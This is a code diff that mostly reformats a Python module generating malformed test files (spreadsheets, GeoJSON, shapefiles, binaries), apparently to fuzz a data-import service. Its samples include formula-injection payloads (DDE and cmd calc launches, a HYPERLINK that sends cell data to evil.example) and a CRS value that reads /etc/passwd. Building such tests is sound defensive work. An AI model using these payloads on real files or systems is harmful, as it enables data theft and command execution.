@@ -29,12 +29,12 @@ HEADERS = {
 }
 FORMULAS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
 ]
 NASTY_TEXT = [
     "",
@@ -182,7 +182,7 @@ def _xlsx(rows: list[list[object]], *, formulas: bool = False) -> bytes:
         sheet.append(row)
     if formulas:
         sheet["D2"] = "=1/0"
-        sheet["B3"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
+        sheet["B3"] = '=HYPERLINK("http://evil.example","x")'
     out = io.BytesIO()
     workbook.save(out)
     return out.getvalue()
@@ -198,7 +198,8 @@ def _xlsx_samples(rng: random.Random) -> Iterator[Sample]:
         for cut in (10, 100, 500, len(good) // 2, len(good) - 22, len(good) - 1):
             yield Sample(f"{kind}-truncated-{cut}.xlsx", good[:cut], "xlsx")
         typed: list[list[object]] = [header]
-        for value in (True, datetime(2024, 1, 1), -1e308, float("nan"), "x" * 32_000, None, 0, "=A1"):
+        naive = datetime(2024, 1, 1)  # noqa: DTZ001 — Excel cells have no time zone
+        for value in (True, naive, -1e308, float("nan"), "x" * 32_000, None, 0, "=A1"):
             typed.append([value] * len(header))
         yield Sample(f"{kind}-odd-types.xlsx", _xlsx(typed), "xlsx")
         yield Sample(f"{kind}-empty-sheet.xlsx", _xlsx([]), "xlsx")
@@ -236,8 +237,11 @@ def _xlsx_samples(rng: random.Random) -> Iterator[Sample]:
 
 
 def _feature(geometry: object, properties: object | None = None) -> dict:
-    return {"type": "Feature", "properties": properties if properties is not None else {"code": "Z1", "name": "Z"},
-            "geometry": geometry}
+    return {
+        "type": "Feature",
+        "properties": properties if properties is not None else {"code": "Z1", "name": "Z"},
+        "geometry": geometry,
+    }
 
 
 def _collection(*features: object) -> bytes:
@@ -251,7 +255,9 @@ def _square(x: float = -98.2, y: float = 19.0, size: float = 0.01) -> list[list[
 def _circle(n: int) -> list[list[float]]:
     import math
 
-    ring = [[-98.2 + 0.01 * math.cos(2 * math.pi * i / n), 19.0 + 0.01 * math.sin(2 * math.pi * i / n)] for i in range(n)]
+    ring = [
+        [-98.2 + 0.01 * math.cos(2 * math.pi * i / n), 19.0 + 0.01 * math.sin(2 * math.pi * i / n)] for i in range(n)
+    ]
     return [*ring, ring[0]]
 
 
@@ -277,8 +283,10 @@ def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
         "string": "POLYGON((0 0,1 0,1 1,0 0))",
         "number": 42,
         "collection-of-nothing": {"type": "GeometryCollection", "geometries": []},
-        "collection-nested": {"type": "GeometryCollection", "geometries": [{"type": "GeometryCollection",
-                                                                             "geometries": []}]},
+        "collection-nested": {
+            "type": "GeometryCollection",
+            "geometries": [{"type": "GeometryCollection", "geometries": []}],
+        },
         "hole-outside-shell": {"type": "Polygon", "coordinates": [_square(), _square(10, 10)]},
         "zero-area": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [2, 2], [0, 0]]]},
         "linestring": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
@@ -287,8 +295,12 @@ def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
         # 200+ vertices is left out on purpose: repairing it takes shapely.make_valid minutes; see
         # docs/security.md, "known limits".)
         "many-vertices": {"type": "Polygon", "coordinates": [_circle(20_000)]},
-        "tangle": {"type": "Polygon", "coordinates": [[*([-98.2 + rng.random() / 100, 19 + rng.random() / 100]
-                                                        for _ in range(24)), [-98.2, 19.0]]]},
+        "tangle": {
+            "type": "Polygon",
+            "coordinates": [
+                [*([-98.2 + rng.random() / 100, 19 + rng.random() / 100] for _ in range(24)), [-98.2, 19.0]]
+            ],
+        },
         "4d-coords": {"type": "Point", "coordinates": [1, 2, 3, 4, 5]},
     }
     for label, geometry in geometries.items():
@@ -302,7 +314,7 @@ def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
         "code-object": {"code": {"a": 1}, "name": "x"},
         "code-huge": {"code": "c" * 100_000, "name": "x"},
         "name-huge": {"code": "Z9", "name": "n" * 100_000},
-        "code-formula": {"code": "=1+1", "name": "=HYPERLINK(\"x\")"},
+        "code-formula": {"code": "=1+1", "name": '=HYPERLINK("x")'},
         "population-nan": {"code": "Z8", "name": "x", "population": "NaN"},
         "population-negative": {"code": "Z7", "name": "x", "population": -5},
         "population-huge": {"code": "Z6", "name": "x", "population": 10**30},
@@ -336,7 +348,7 @@ def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
         "top-level-string": b'"FeatureCollection"',
         "empty-object": b"{}",
         "nan-literal": b'{"type":"FeatureCollection","features":[NaN]}',
-        "huge-number": b'{"type":"Feature","geometry":{"type":"Point","coordinates":[1' + b"0" * 5000 + b',1]}}',
+        "huge-number": b'{"type":"Feature","geometry":{"type":"Point","coordinates":[1' + b"0" * 5000 + b",1]}}",
         "duplicate-keys": b'{"type":"FeatureCollection","type":"Feature","features":[]}',
         "trailing-garbage": valid + b"\x00\xff garbage",
         "bom-utf8": b"\xef\xbb\xbf" + valid,
@@ -345,10 +357,20 @@ def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
         "invalid-utf8": valid.replace(b'"Z"', b'"\xc3\x28"'),
         "comments": b"// a comment\n" + valid,
         "single-quotes": valid.replace(b'"', b"'"),
-        "crs-bogus": json.dumps({"type": "FeatureCollection", "crs": {"type": "name", "properties": {
-            "name": "urn:ogc:def:crs:EPSG::99999999"}}, "features": []}).encode(),
-        "crs-injection": json.dumps({"type": "FeatureCollection", "crs": {"type": "name", "properties": {
-            "name": "+proj=longlat +init=/etc/passwd"}}, "features": json.loads(valid)["features"]}).encode(),
+        "crs-bogus": json.dumps(
+            {
+                "type": "FeatureCollection",
+                "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::99999999"}},
+                "features": [],
+            }
+        ).encode(),
+        "crs-injection": json.dumps(
+            {
+                "type": "FeatureCollection",
+                "crs": {"type": "name", "properties": {"name": "+proj=longlat +init=/etc/passwd"}},
+                "features": json.loads(valid)["features"],
+            }
+        ).encode(),
         "lone-surrogate": valid.replace(b'"Z"', b'"\\ud800"'),
         "nul-escaped": valid.replace(b'"Z"', b'"\\u0000"'),
     }
@@ -392,7 +414,10 @@ def _shapefile_samples(rng: random.Random) -> Iterator[Sample]:
     shp = _shp_header()
     shx = _shp_header(length_words=50)
     dbf = _dbf([("CODE", "C", 10), ("NAME", "C", 20)], [[b"S1", b"Station"]])
-    prj = b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
+    prj = (
+        b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],'
+        b'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
+    )
     cases: dict[str, dict[str, bytes]] = {
         "header-only": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.prj": prj},
         "missing-dbf": {"a.shp": shp, "a.shx": shx},
@@ -411,9 +436,16 @@ def _shapefile_samples(rng: random.Random) -> Iterator[Sample]:
         "nested-dir": {"deep/er/a.shp": shp, "deep/er/a.shx": shx, "deep/er/a.dbf": dbf},
         "two-shapefiles": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "b.shp": shp, "b.shx": shx, "b.dbf": dbf},
         "uppercase": {"A.SHP": shp, "A.SHX": shx, "A.DBF": dbf},
-        "dbf-many-fields": {"a.shp": shp, "a.shx": shx,
-                            "a.dbf": _dbf([(f"F{i}", "C", 1) for i in range(255)], [[b"x"] * 255])},
-        "dbf-record-count-lies": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf.replace(b"\x01\x00\x00\x00", b"\xff\xff\xff\x7f", 1)},
+        "dbf-many-fields": {
+            "a.shp": shp,
+            "a.shx": shx,
+            "a.dbf": _dbf([(f"F{i}", "C", 1) for i in range(255)], [[b"x"] * 255]),
+        },
+        "dbf-record-count-lies": {
+            "a.shp": shp,
+            "a.shx": shx,
+            "a.dbf": dbf.replace(b"\x01\x00\x00\x00", b"\xff\xff\xff\x7f", 1),
+        },
         "cpg-bogus": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.cpg": b"no-such-encoding-\x00"},
         "symlink-like-name": {"a.shp\x00.txt": shp},
     }
@@ -487,8 +519,19 @@ def image_samples(rng: random.Random | None = None) -> Iterator[Sample]:
 
 def _binary_samples(rng: random.Random) -> Iterator[Sample]:
     extensions = [".csv", ".xlsx", ".geojson", ".json", ".zip", ".gpkg", ".txt", ".tsv", ".bin", ""]
-    magic = [b"", b"PK\x03\x04", b"SQLite format 3\x00", b"\xef\xbb\xbf", b"{", b"[", b"\xff\xfe", b"%PDF-1.4",
-             b"\x7fELF", b"MZ", b"\x1f\x8b\x08"]
+    magic = [
+        b"",
+        b"PK\x03\x04",
+        b"SQLite format 3\x00",
+        b"\xef\xbb\xbf",
+        b"{",
+        b"[",
+        b"\xff\xfe",
+        b"%PDF-1.4",
+        b"\x7fELF",
+        b"MZ",
+        b"\x1f\x8b\x08",
+    ]
     for i in range(60):
         size = rng.choice([1, 2, 3, 17, 511, 4096, 4097, 70_000])
         data = rng.choice(magic) + rng.randbytes(size)
